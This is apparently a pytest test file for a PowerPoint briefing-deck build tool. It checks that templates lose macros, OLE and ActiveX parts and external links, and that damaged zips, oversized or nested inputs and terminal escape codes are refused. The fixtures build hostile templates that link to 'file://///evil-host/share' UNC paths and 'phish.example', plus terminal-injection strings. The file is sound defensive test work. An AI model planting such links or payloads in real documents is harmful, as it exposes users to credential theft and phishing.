"""Round three of the hostile catalogue (issue 23): templates that carry what a ministry must never
send (macros, ActiveX, OLE objects, links outside the file, unused embedded fonts) and damaged
templates; files the review commands and merge read; merging what does not belong together;
inputs that would hang; text that reaches a terminal. Each case with the exact words a user sees.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import struct
import zipfile
from pathlib import Path

import pytest
from pptx import Presentation

from tests.conftest import REPO, run_cli
from tests.hostile.test_exhaustion import cli, leave_only_manifests_the_audit_can_read, snapshot  # noqa: F401 (a fixture)

THEME = "templates/themes/default.yaml"


# --- templates made for the cases -------------------------------------------------------------

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def base(samples: int = 1) -> bytes:
    prs = Presentation()
    for number in range(samples):
        prs.slides.add_slide(prs.slide_layouts[1]).shapes.title.text = f"Sample {number + 1}"
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def rezip(data: bytes, edit=None, add=None, method=None) -> bytes:
    """`data` with entries changed (name -> function of the old bytes) and added (name -> bytes)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in src.namelist():
            body = src.read(name)
            if edit and name in edit:
                body = edit[name](body)
            archive.writestr(name, body)
        for name, body in (add or {}).items():
            archive.writestr(name, body)
    return out.getvalue()


def _rel(rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def add_rels(*rels: bytes):
    return lambda body: body.replace(b"</Relationships>", b"".join(rels) + b"</Relationships>")


def add_types(*pairs: tuple[str, str]):
    def edit(body: bytes) -> bytes:
        extra = b"".join(f'<Override PartName="/{name}" ContentType="{kind}"/>'.encode() for name, kind in pairs)
        return body.replace(b"</Types>", extra + b"</Types>")
    return edit


def chain(*edits):
    def edit(body):
        for e in edits:
            body = e(body)
        return body
    return edit


PICTURE = (b'<p:pic><p:nvPicPr><p:cNvPr id="90" name="Logo"><a:hlinkClick xmlns:r="' + R.encode() +
           b'" r:id="rId90"/></p:cNvPr><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip xmlns:r="' +
           R.encode() + b'" r:link="rId91"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
           b'<a:off x="0" y="0"/><a:ext cx="914400" cy="457200"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
           b'</a:prstGeom></p:spPr></p:pic>')
OLE = (b'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="91" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
       b'</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic>'
       b'<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj xmlns:r="' +
       R.encode() + b'" r:id="rId92" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic>'
       b'</p:graphicFrame>')
CONTROL = b'<p:controls><p:control xmlns:r="' + R.encode() + b'" r:id="rId93" name="Button1" spid="_x0000_s1"/></p:controls>'
FONT = (b'<p:embeddedFontLst><p:embeddedFont><p:font typeface="Wingdings"/><p:regular xmlns:r="' + R.encode() +
        b'" r:id="rId94"/></p:embeddedFont></p:embeddedFontLst>')

DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def hostile(samples: int = 1) -> bytes:
    """Macros, a picture linked to a UNC path with a hyperlink on the master, an OLE object and an
    ActiveX control on the first layout, and an embedded font the deck does not use."""
    master = "ppt/slideMasters/slideMaster1.xml"
    layout = "ppt/slideLayouts/slideLayout1.xml"
    return rezip(base(samples), edit={
        "[Content_Types].xml": chain(
            lambda b: b.replace(b"presentationml.presentation.main+xml", b"presentationml.presentation.main+xml")
            .replace(b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                     b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
            add_types(("ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
                      ("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
                      ("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
                      ("ppt/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
                      ("ppt/fonts/font1.fntdata", "application/x-fontdata"))),
        "ppt/_rels/presentation.xml.rels": add_rels(
            _rel("rId90", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
            _rel("rId94", DOC + "font", "fonts/font1.fntdata")),
        "ppt/presentation.xml": lambda b: b.replace(b"<p:defaultTextStyle>", FONT + b"<p:defaultTextStyle>"),
        master: lambda b: b.replace(b"</p:spTree>", PICTURE + b"</p:spTree>", 1),
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": add_rels(
            _rel("rId90", DOC + "hyperlink", "https://phish.example/login", True),
            _rel("rId91", DOC + "image", "file://///evil-host/share/logo.png", True)),
        layout: lambda b: b.replace(b"</p:spTree>", OLE + b"</p:spTree>" + CONTROL, 1),
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": add_rels(
            _rel("rId92", DOC + "oleObject", "../embeddings/oleObject1.bin"),
            _rel("rId93", DOC + "control", "../activeX/activeX1.xml")),
    }, add={
        "ppt/vbaProject.bin": b"Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub\n",
        "ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 not really",
        "ppt/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" xmlns:r="' + R.encode() + b'" ax:persistence="persistStreamInit" r:id="rId1"/>',
        "ppt/activeX/_rels/activeX1.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="' + RELS.encode() + b'">' + _rel("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin") + b"</Relationships>",
        "ppt/activeX/activeX1.bin": b"binary control",
        "ppt/fonts/font1.fntdata": b"\x00\x01\x00\x00" + b"\x00" * 60,     # a TrueType header, no more
    })


def use_master(root: Path, name: str, data: bytes) -> None:
    """Put `data` in templates/masters/`name` and point the default theme at it (without its grid,
    which the template gives)."""
    (root / "templates/masters").mkdir(parents=True, exist_ok=True)
    (root / "templates/masters" / name).write_bytes(data)
    theme = (root / THEME).read_text(encoding="utf-8")
    start = theme.index("grid:")
    end = theme.index("\n", theme.index("cover_left:"))
    (root / THEME).write_text(f"master: masters/{name}\n{theme[:start]}{theme[end + 1:]}", encoding="utf-8")


AT = f"{THEME}:1:1: master: masters/ministry.pptx"
DROPPED = [
    f"note: {AT}: ppt/presentation.xml: a macro-enabled presentation's main part, declared a plain presentation's",
    f"note: {AT}: ppt/vbaProject.bin dropped: a macro project (from ppt/presentation.xml); a deck never carries "
    "code or embedded objects",
    f"note: {AT}: ppt/embeddings/oleObject1.bin dropped: an OLE object (from ppt/slideLayouts/slideLayout1.xml); "
    "a deck never carries code or embedded objects",
    f"note: {AT}: ppt/activeX/activeX1.xml dropped: an ActiveX control (from ppt/slideLayouts/slideLayout1.xml); "
    "a deck never carries code or embedded objects",
    f"note: {AT}: ppt/slideMasters/slideMaster1.xml: link to 'https://phish.example/login' dropped (a hyperlink, "
    "outside the file); a deck never reaches outside its file",
    f"note: {AT}: ppt/slideMasters/slideMaster1.xml: link to 'file://///evil-host/share/logo.png' dropped (a linked "
    "picture, outside the file); a deck never reaches outside its file",
    f"note: {AT}: ppt/fonts/font1.fntdata dropped: an embedded font ('Wingdings') the deck does not use",
]


CHOSEN = [
    f"note: {AT}: cover slides use 'Title Slide': declared a title slide (a centred title, a subtitle box)",
    f"note: {AT}: content slides use 'Title Only': its placeholders make it a title-only layout (a title)",
    f"note: {AT}: section slides use 'Section Header': declared a section header (a title, a text box)",
]


def carries_nothing_unsafe(deck: Path) -> None:
    with zipfile.ZipFile(deck) as archive:
        names = archive.namelist()
        assert not [n for n in names if any(w in n for w in ("vbaProject", "activeX", "embeddings", "fonts/"))]
        for name in names:
            body = archive.read(name)
            assert b'TargetMode="External"' not in body, name
            assert b"macroEnabled" not in body and b"evil-host" not in body and b"oleObj" not in body, name


def test_a_templates_macros_activex_ole_links_and_unused_fonts_never_reach_a_deck(project, capsys):
    use_master(project.root, "ministry.pptx", hostile())
    code, out, err = run_cli(capsys, "check")
    # check also says which layout each kind of slide uses, and why; a build says only what was dropped
    assert (code, err.splitlines()) == (0, DROPPED + CHOSEN)
    code, out, err = run_cli(capsys, "build", "--no-cache")
    assert (code, err.splitlines()) == (0, DROPPED)
    deck = project.output / "sampler-full-en.pptx"
    carries_nothing_unsafe(deck)
    [entry] = json.loads((project.output / "manifest.json").read_text(encoding="utf-8"))["decks"]
    assert len(Presentation(str(deck)).slides) == entry["slides"] == 9     # and the suite's audit passes it


def test_a_font_the_deck_uses_stays_embedded(project, capsys):
    data = rezip(hostile(), edit={"ppt/presentation.xml": lambda b: b.replace(b'typeface="Wingdings"',
                                                                                b'typeface="Arial"')})
    use_master(project.root, "ministry.pptx", data)
    code, out, err = run_cli(capsys, "build", "--no-cache")
    assert (code, err.splitlines()) == (0, DROPPED[:-1])
    with zipfile.ZipFile(project.output / "sampler-full-en.pptx") as archive:
        assert "ppt/fonts/font1.fntdata" in archive.namelist()
        assert b'typeface="Arial"' in archive.read("ppt/presentation.xml")


LINKED_OLE = OLE.replace(b"<p:embed/>", b'<p:link updateAutomatic="1"/>')


def test_a_templates_linked_ole_object_never_reaches_a_deck(project, capsys):
    """An OLE object linked to a file on a UNC path: opening the deck would ask Windows to reach
    that host (and send the user's credentials), so the link and its frame go."""
    layout = "ppt/slideLayouts/slideLayout1.xml"
    data = rezip(base(), edit={
        layout: lambda b: b.replace(b"</p:spTree>", LINKED_OLE + b"</p:spTree>", 1),
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": add_rels(
            _rel("rId92", DOC + "oleObject", "file://///evil-host/share/budget.xlsx", True))})
    use_master(project.root, "ministry.pptx", data)
    code, out, err = run_cli(capsys, "build", "--no-cache")
    assert (code, err.splitlines()) == (0, [
        f"note: {AT}: {layout}: link to 'file://///evil-host/share/budget.xlsx' dropped (a linked OLE object, "
        "outside the file); a deck never reaches outside its file"])
    carries_nothing_unsafe(project.output / "sampler-full-en.pptx")


def test_master_inspect_names_what_every_deck_leaves_out(project, capsys):
    use_master(project.root, "ministry.pptx", hostile())
    code, out, err = run_cli(capsys, "master", "inspect", "templates/masters/ministry.pptx")
    assert code == 0 and err == ""
    assert [l for l in out.splitlines() if l.startswith("dropped")] == [
        "dropped from every deck: " + line.split(f"{AT}: ", 1)[1] for line in DROPPED[:-1]]
    code, out, err = run_cli(capsys, "master", "inspect", "--json", "templates/masters/ministry.pptx")
    assert len(json.loads(out)["dropped"]) == 6


def test_a_default_master_deck_has_no_notes(project, capsys):
    code, out, err = run_cli(capsys, "check")
    assert (code, err) == (0, "")


# --- damaged templates --------------------------------------------------------------------------

def _central(data: bytes, name: str) -> int:
    """The offset of `name`'s record in the zip's central directory."""
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46: at + 46 + length] == name.encode():
            return at
        at = data.find(b"PK\x01\x02", at + 46)
    raise KeyError(name)


def _patched(data: bytes, name: str, offset: int, value: int) -> bytes:
    """`data` with a 16-bit field of `name`'s central directory record (and local header) set."""
    out = bytearray(data)
    at = _central(data, name)
    struct.pack_into("<H", out, at + offset, value)
    local = struct.unpack_from("<I", data, at + 42)[0]
    struct.pack_into("<H", out, local + offset - 2, value)
    return bytes(out)


def _zero_size() -> bytes:
    return rezip(base(), edit={"ppt/presentation.xml": lambda b: b.replace(
        b'<p:sldSz cx="9144000" cy="6858000" type="screen4x3"/>', b'<p:sldSz cx="0" cy="0"/>')})


def _no_theme() -> bytes:
    data = base()
    rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        body = archive.read(rels).decode()
    theme = next(m.group() for m in re.finditer(r"<Relationship [^>]*/>", body) if "/theme" in m.group())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in src.namelist():
            if not name.startswith("ppt/theme/"):
                archive.writestr(name, src.read(name) if name != rels
                                 else body.replace(theme, "").encode())
    return out.getvalue()


def _bad_crc_potx() -> bytes:
    data = rezip(base(), edit={"[Content_Types].xml": lambda b: b.replace(
        b"presentationml.presentation.main+xml", b"presentationml.template.main+xml")})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name in src.namelist():
            archive.writestr(name, src.read(name))
    return out.getvalue().replace(b'name="Title and Content"', b'name="Title and Kontent"', 1)


def _encrypted() -> bytes:
    data = base()
    return _patched(data, "ppt/slideLayouts/slideLayout2.xml", 8, 0x1)


def _unknown_method() -> bytes:
    return _patched(base(), "ppt/slideLayouts/slideLayout2.xml", 10, 9)      # Deflate64


DAMAGED = {
    "zero-size": (_zero_size, "ministry.pptx", "is damaged: its slide size is 0 x 0 in; a slide is 1 to 56 inches "
                  "a side: set the size in PowerPoint (Design, Slide Size) and save it again"),
    "no-theme": (_no_theme, "ministry.pptx", "is damaged: slide master 1 (ppt/slideMasters/slideMaster1.xml) has "
                 "no theme part, which every master needs; save the template again from PowerPoint"),
    "bad-crc": (_bad_crc_potx, "ministry.potx", "is damaged: ppt/slideLayouts/slideLayout2.xml does not match its "
                "checksum; save the template again from PowerPoint"),
    "encrypted": (_encrypted, "ministry.pptx", "is encrypted (ppt/slideLayouts/slideLayout2.xml needs a password); "
                  "save the template again without one"),
    "unknown-method": (_unknown_method, "ministry.pptx", "is damaged: ppt/slideLayouts/slideLayout2.xml is "
                       "compressed by a method no PowerPoint file uses (method 9); save the template again from "
                       "PowerPoint"),
}


@pytest.mark.parametrize("case", list(DAMAGED))
def test_a_damaged_template_is_located_in_check_build_and_master_inspect(project, capsys, case):
    make, name, message = DAMAGED[case]
    use_master(project.root, name, make())
    before = snapshot(project.root)
    for command in (["check"], ["build", "--no-cache"]):
        code, out, err = run_cli(capsys, *command)
        assert (code, out, err.splitlines()) == (1, "", [f"{THEME}:1:1: master: masters/{name} {message}",
                                                         "1 error in 1 file"])
    assert snapshot(project.root) == before
    code, out, err = run_cli(capsys, "master", "inspect", f"templates/masters/{name}")
    assert (code, out, err.splitlines()) == (1, "", [f"templates/masters/{name} {message}"])


# --- every file diff, merge and preview read is typed and bounded ------------------------------

@pytest.fixture
def built(project, capsys):
    """The sampler built into output/, and a copy as it was in old/."""
    import shutil

    assert run_cli(capsys, "build", "--no-cache")[0] == 0
    shutil.copytree(project.output, project.root / "old", symlinks=True)
    return project


OUTLINE = "output/outline/sampler-full-en.md"


def _fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _zero(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def _huge(path: Path) -> None:
    with open(path, "r+b") as f:
        f.truncate(900_000_000)       # sparse: no disk spent


def _nested(path: Path) -> None:
    path.write_text('{"decks": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
@pytest.mark.parametrize("where, make, message", [
    (OUTLINE, _fifo, f"{OUTLINE}: cannot read the outline of sampler-full-en.pptx (not a regular file (a folder, "
                     "a pipe or a device))"),
    (OUTLINE, _zero, f"{OUTLINE}: cannot read the outline of sampler-full-en.pptx (not a regular file (a folder, "
                     "a pipe or a device))"),
    (OUTLINE, _huge, f"{OUTLINE}: cannot read the outline of sampler-full-en.pptx (the file is 900,000,000 "
                     "bytes; files here are limited to 5,000,000)"),
    ("output/manifest.json", _fifo, "output/manifest.json: cannot read the manifest of a build (not a regular file "
                                    "(a folder, a pipe or a device)); diff compares two output folders of builds"),
    ("output/manifest.json", _zero, "output/manifest.json: cannot read the manifest of a build (not a regular file "
                                    "(a folder, a pipe or a device)); diff compares two output folders of builds"),
    ("output/manifest.json", _huge, "output/manifest.json: cannot read the manifest of a build (the file is "
                                    "900,000,000 bytes; files here are limited to 10,000,000); diff compares two "
                                    "output folders of builds"),
    ("output/manifest.json", _nested, "output/manifest.json: cannot read the manifest of a build (nested more than "
                                      "32 levels deep); diff compares two output folders of builds"),
])
def test_diff_reads_outlines_and_manifests_typed_and_bounded(built, where, make, message):
    make(built.root / where)
    run = cli(built.root, "diff", "old", "output")
    assert (run.code, run.out, run.lines) == (2, "", [message])
    assert run.seconds < 10


def test_a_deeply_nested_manifest_is_set_aside_by_a_build(built, capsys):
    _nested(built.output / "manifest.json")
    code, out, err = run_cli(capsys, "build", "--no-cache")
    assert code == 0
    assert ("note: output/manifest.json: is not the JSON this tool writes; set aside, and no deck it lists was "
            "deleted") in err.splitlines()
    assert (built.output / "manifest.json.unreadable").stat().st_size > 200_000


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
@pytest.mark.parametrize("make", [_fifo, _zero, _nested])
def test_a_preview_record_that_is_no_record_is_never_waited_on(tmp_path, make):
    from briefing.review.preview import _stamped

    record = tmp_path / "deck.json"
    record.write_text("{}", encoding="utf-8")
    make(record)
    started = __import__("time").monotonic()
    assert _stamped(record) == ""
    assert __import__("time").monotonic() - started < 2


# --- merge verifies what it joins ---------------------------------------------------------------

_SHARDS: dict[str, Path] = {}
"""The shards built once for this test process (a copy of them is each test's own)."""


@pytest.fixture
def two_shards(project, capsys, tmp_path_factory):
    """The sampler with two audiences (three variants) built as shards 1/2 and 2/2."""
    for name in ("partner", "region"):
        (project.root / f"content/sampler/audiences/{name}.yaml").parent.mkdir(exist_ok=True)
        (project.root / f"content/sampler/audiences/{name}.yaml").write_text(f"name: {name}\n", encoding="utf-8")
    if "built" in _SHARDS:
        shutil.copytree(_SHARDS["built"], project.root / "shards")
        return project
    for index in (1, 2):
        assert run_cli(capsys, "build", "--no-cache", "--shard", f"{index}/2", "--output", f"shards/{index}")[0] == 0
    assert all(json.loads((project.root / f"shards/{i}/manifest.json").read_text())["decks"] for i in (1, 2))
    _SHARDS["built"] = tmp_path_factory.mktemp("shards") / "shards"
    shutil.copytree(project.root / "shards", _SHARDS["built"])
    return project


def _merge(project) -> tuple:
    before = snapshot(project.root / "shards")
    run = cli(project.root, "merge", "shards/1", "shards/2", "--output", "merged")
    assert snapshot(project.root / "shards") == before and not (project.root / "merged").exists()
    return run.code, run.out, run.lines


@pytest.fixture
def rewrite():
    """Change a shard's manifest for one test; put back afterwards (the suite's audit reads every
    manifest a test leaves)."""
    kept: dict[Path, str] = {}

    def change(path: Path, how) -> None:
        kept.setdefault(path, path.read_text(encoding="utf-8"))
        data = json.loads(kept[path])
        how(data)
        path.write_text(json.dumps(data, indent=2), encoding="utf-8")

    yield change
    for path, text in kept.items():
        path.write_text(text, encoding="utf-8")


def test_shards_built_from_different_sources_are_refused(two_shards, capsys):
    deck = two_shards.root / "content/sampler/deck.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("Every layout once", "Changed since"), encoding="utf-8")
    shutil.rmtree(two_shards.root / "shards/2")
    assert run_cli(capsys, "build", "--no-cache", "--shard", "2/2", "--output", "shards/2")[0] == 0
    assert _merge(two_shards) == (1, "", [
        "shards/2: built from another 'content/sampler/deck.yaml' than shards/1 (its SHA-256 differs); merge the "
        "shards of one build of the same sources"])


def test_a_forged_title_in_a_shards_manifest_is_refused(two_shards, rewrite):
    path = two_shards.root / "shards/1/manifest.json"
    rewrite(path, lambda data: data["decks"][0].update(title="Forged"))
    file = json.loads(path.read_text())["decks"][0]["file"]
    assert _merge(two_shards) == (1, "", [
        f"shards/1/manifest.json: the record of '{file}': title is 'Forged', but the deck's is 'Sampler Deck'; "
        "build that folder again"])


@pytest.mark.parametrize("where, value, message", [
    ("count", "two", "shard.count is 'two', not a whole number from 1"),
    ("index", None, "shard.index is nothing, not a whole number from 1"),
    ("selection", [1], "shard.selection is a list, not the selection of a build"),
    ("slides", "two", "the record of '{file}': slides is 'two', not a whole number"),
    ("sha256", 5, "the record of '{file}': sha256 is '5', not a SHA-256"),
    ("sources", {"a": 1}, "the record of '{file}': sources is a mapping, not a list of sources"),
])
def test_a_shard_record_is_validated_as_data(two_shards, rewrite, where, value, message):
    path = two_shards.root / "shards/1/manifest.json"
    if where in ("count", "index", "selection"):
        rewrite(path, lambda data: data["shard"].update({where: value}))
    else:
        rewrite(path, lambda data: data["decks"][0].update({where: value}))
    file = json.loads(path.read_text())["decks"][0]["file"]
    assert _merge(two_shards) == (1, "", [f"shards/1/manifest.json: {message.format(file=file)}; build that folder "
                                          "again"])


def test_a_shards_outline_folder_linked_outside_is_refused(two_shards, tmp_path):
    import shutil

    outline = two_shards.root / "shards/1/outline"
    shutil.move(outline, tmp_path / "elsewhere")
    outline.symlink_to(tmp_path / "elsewhere")
    name = json.loads((two_shards.root / "shards/1/manifest.json").read_text())["decks"][0]["outline"]
    assert _merge(two_shards) == (1, "", [
        f"shards/1/{name}: reached through a link to elsewhere, not a file of shards/1; merge only what the build "
        "wrote there"])


@pytest.mark.parametrize("nesting", ["[" * 100_000 + "]" * 100_000, '{"decks": ' * 100_000 + "[]" + "}" * 100_000],
                         ids=["lists", "mappings"])
def test_a_shards_manifest_nested_100000_deep_is_refused_and_nothing_is_written(two_shards, capsys, nesting):
    assert run_cli(capsys, "merge", "shards/1", "shards/2", "--output", "merged")[0] == 0
    (two_shards.root / "shards/1/manifest.json").write_text(nesting, encoding="utf-8")
    before = snapshot(two_shards.root)
    run = cli(two_shards.root, "merge", "shards/1", "shards/2", "--output", "merged")
    assert (run.code, run.out, run.lines) == (1, "", [
        "shards/1: not the output folder of a build (shards/1/manifest.json: is not the JSON this tool writes)"])
    assert snapshot(two_shards.root) == before       # the shards and the merged folder as they were


def test_shards_of_one_build_still_merge(two_shards):
    run = cli(two_shards.root, "merge", "shards/1", "shards/2", "--output", "merged")
    assert (run.code, run.lines) == (0, []) and run.out == "merged 3 decks from 2 folders into merged/\n"


def test_merging_again_replaces_its_own_decks_though_shards_were_built_in_other_folders(two_shards, tmp_path,
                                                                                        capsys):
    """CI runners check a project out in folders of their own: the merged decks are still the
    project's (known by their bytes and its name), so the next merge replaces them without a copy."""
    import shutil

    runner = tmp_path / "runner" / two_shards.root.name     # shard 2 built in another checkout
    shutil.copytree(two_shards.root, runner, ignore=shutil.ignore_patterns("shards", "output"))
    for root in (two_shards.root, runner):
        deck = root / "content/sampler/deck.yaml"
        deck.write_text(deck.read_text(encoding="utf-8").replace("Every layout once", "Changed since"), "utf-8")
    assert run_cli(capsys, "merge", "shards/1", "shards/2", "--output", "merged")[0] == 0
    shutil.rmtree(two_shards.root / "shards")
    assert run_cli(capsys, "build", "--no-cache", "--shard", "1/2", "--output", "shards/1")[0] == 0
    assert run_cli(capsys, "build", "--project", str(runner), "--no-cache", "--shard", "2/2", "--output",
                   str(two_shards.root / "shards/2"))[0] == 0
    assert run_cli(capsys, "merge", "shards/1", "shards/2", "--output", "merged") == (
        0, "merged 3 decks from 2 folders into merged/\n", "")
    assert not list((two_shards.root / "merged").rglob("*.kept*"))


# --- small inputs, long waits --------------------------------------------------------------------

ODA_DECK = "content/oda-priorities/deck.yaml"


@pytest.mark.parametrize("widths, lines", [
    ("[1e308, 1e308, 1]", [f"{ODA_DECK}:64:14: slides[5].widths[0]: input should be less than or equal to 1000; "
                           "got '1e308'",
                           f"{ODA_DECK}:64:21: slides[5].widths[1]: input should be less than or equal to 1000; "
                           "got '1e308'",
                           "2 errors in 1 file"]),
    ("[1000, 1000, 1]", [f"{ODA_DECK}:64:5: slides[5].widths: the widest column would be 1e+03 times the "
                         "narrowest; at most 10 times, or the narrow one holds no word (widths are relative, e.g. "
                         "[1, 2, 2])",
                         "1 error in 1 file"]),
])
def test_extreme_table_widths_are_refused_at_once(oda, widths, lines):
    text = (oda.root / ODA_DECK).read_text(encoding="utf-8")
    assert "    widths: [1, 2, 2]\n" in text
    (oda.root / ODA_DECK).write_text(text.replace("    widths: [1, 2, 2]\n", f"    widths: {widths}\n"), "utf-8")
    run = cli(oda.root, "check")
    assert (run.code, run.out, run.lines) == (1, "", lines)
    assert run.seconds < 10


# --- text that reaches a terminal is escaped, C1 codes included ------------------------------------

def test_outline_on_the_terminal_escapes_c1_codes_in_a_slides_text(project):
    deck = project.root / "content/sampler/deck.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("    title: Part one\n",
                                                             '    title: "Part \\u009b2J one"\n', 1), "utf-8")
    run = cli(project.root, "outline", "--audience", "full")
    assert run.code == 0 and "\x9b" not in run.out
    assert "## 2 · part-one · Part \\x9b2J one" in run.out.splitlines()
    run = cli(project.root, "list")
    assert "\x9b" not in run.out and "   2  part-one         section      Part \\x9b2J one" in run.out.splitlines()


def test_master_inspect_escapes_a_layout_name_with_terminal_codes(project):
    name = b"Title \x1b]0;pwned\x07 \xc2\x9b2J Slide\nmaster 9"      # ESC, BEL, C1 CSI, a line break
    data = rezip(base(), edit={"ppt/slideLayouts/slideLayout1.xml": lambda b: b.replace(
        b'name="Title Slide"', b'name="' + name.replace(b"\x1b", b"&#x1b;").replace(b"\x07", b"&#x7;")
        .replace(b"\n", b"&#10;") + b'"', 1)})
    # XML 1.0 cannot hold ESC or BEL even as references: such a template is refused, not printed.
    (project.root / "bad.pptx").write_bytes(data)
    run = cli(project.root, "master", "inspect", "bad.pptx")
    assert run.code == 1 and "\x1b" not in run.err + run.out and "\x07" not in run.err + run.out
    assert run.err.startswith("bad.pptx cannot be read as a PowerPoint template (XMLSyntaxError: xmlParseCharRef: "
                              "invalid xmlChar value 27")
    clean = rezip(base(), edit={"ppt/slideLayouts/slideLayout1.xml": lambda b: b.replace(
        b'name="Title Slide"', b'name="Title \xc2\x9b2J Slide&#10;master 9"', 1)})
    (project.root / "c1.pptx").write_bytes(clean)
    run = cli(project.root, "master", "inspect", "c1.pptx")
    assert run.code == 0 and "\x9b" not in run.out
    assert "  Title \\x9b2J Slide\\nmaster 9           title-slide  <- cover" in run.out.splitlines()
    run = cli(project.root, "master", "inspect", "--json", "c1.pptx")
    assert "\x9b" not in run.out and json.loads(run.out)["layouts"][0]["name"] == "Title \x9b2J Slide\nmaster 9"


def test_messages_escape_a_folder_name_with_terminal_codes(project):
    run = cli(project.root, "merge", "shards\x1b[2J\x9b1", "--output", "merged")
    assert (run.code, run.lines) == (1, ["shards\\x1b[2J\\x9b1: no such folder to merge"])
    run = cli(project.root, "diff", "old\x1b[2J", "new")
    assert (run.code, run.lines) == (2, ["old\\x1b[2J: no such folder; diff compares two output folders of builds "
                                         "(OLD NEW)"])


# --- nothing written through a link or over what is no file ---------------------------------------------

def test_a_build_never_writes_through_a_linked_outline_folder(project, capsys, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (project.root / "output").mkdir()
    (project.root / "output/outline").symlink_to(elsewhere)
    code, out, err = run_cli(capsys, "build")
    assert (code, out) == (1, "")
    assert err.splitlines()[0] == ("output/outline: is a link; a build writes only into real folders inside the "
                                   "output folder, never through a link: move it away (no deck in the output folder "
                                   "was changed)")
    assert list(elsewhere.iterdir()) == [] and not list((project.root / "output").glob("*.pptx"))


def test_outline_and_preview_refuse_a_linked_folder_or_a_file_where_theirs_goes(project, capsys, tmp_path,
                                                                              monkeypatch):
    from briefing.review import preview

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "mine.md").write_text("my notes", encoding="utf-8")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "outline").symlink_to(elsewhere)
    code, out, err = run_cli(capsys, "outline", "--output", str(out_dir))
    assert (code, err.strip()) == (1, f"{out_dir / 'outline'} is a link; files are written only into a real folder, "
                                      "never through a link: move the link away")
    assert [p.name for p in elsewhere.iterdir()] == ["mine.md"]
    monkeypatch.setattr(preview, "tools", lambda: ("soffice", "pdftoppm", "pdfinfo"))
    (out_dir / "previews").write_text("not a folder", encoding="utf-8")
    with pytest.raises(Exception) as refused:
        preview.preview_all([(REPO / "README.md", 1)], out_dir)
    assert str(refused.value) == f"{out_dir / 'previews'} is not a folder; move it away"
    (out_dir / "previews").unlink()
    (out_dir / "previews").symlink_to(elsewhere)
    with pytest.raises(Exception) as refused:
        preview.preview_all([(REPO / "README.md", 1)], out_dir)
    assert str(refused.value).startswith(f"{out_dir / 'previews'} is a link")
    assert [p.name for p in elsewhere.iterdir()] == ["mine.md"]



def _previewing(tmp_path: Path, monkeypatch) -> tuple[Path, Path, tuple[str, str, str]]:
    """A deck and its previews folder; the programs fail the test if anything gets as far as rendering."""
    from briefing.review import preview

    deck = tmp_path / "sampler-full-en.pptx"
    deck.write_bytes(b"a deck")
    folder = tmp_path / "previews"
    folder.mkdir()
    monkeypatch.setattr(preview, "_to_pdf", lambda *args: pytest.fail("rendered although refused"))
    return deck, folder, ("soffice", "pdftoppm", "pdfinfo")


@pytest.mark.parametrize("name", ["sampler-full-en.pdf", "sampler-full-en.png", "sampler-full-en.json"])
def test_a_folder_where_a_preview_file_goes_is_refused_before_anything_is_rendered(tmp_path, monkeypatch, name):
    from briefing.errors import BriefingError
    from briefing.review import preview

    deck, folder, programs = _previewing(tmp_path, monkeypatch)
    (folder / name).mkdir()
